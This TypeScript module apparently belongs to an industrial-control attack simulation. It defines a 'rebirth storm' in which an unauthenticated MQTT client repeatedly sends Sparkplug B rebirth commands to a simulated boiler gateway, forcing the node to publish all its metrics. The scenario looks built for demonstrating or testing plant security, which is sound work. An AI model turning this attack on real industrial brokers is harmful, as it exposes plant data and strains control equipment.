import { rebirthCommand } from '../sparkplug-messages';
import { type Attack, asStranger, pause } from './attack-scene';

const commands = 12;
const pauseMs = 1500;

/** Asks one edge node for its births again and again: few bytes in, all its metrics out. */
export const rebirthStorm: Attack = (scene) =>
  asStranger(scene, 'rebirth-tool', async (client, clientId) => {
    const victim = scene.plant.edgeNodes.find(({ node }) => node.edgeNode === 'boiler-gateway');
    if (victim === undefined) throw new Error('the plant has no such edge node');
    const { group, edgeNode } = victim.node;
    for (let sent = 0; sent < commands; sent++) {
      await client.publishAsync(
        `spBv1.0/${group}/NCMD/${edgeNode}`,
        Buffer.from(rebirthCommand(Date.now())),
        { qos: 0 },
      );
      await pause(scene, pauseMs);
    }
    return `MQTT client ${clientId} asked ${group}/${edgeNode} for a rebirth ${commands} times in ${Math.round((commands * pauseMs) / 1000)} seconds.`;
  });
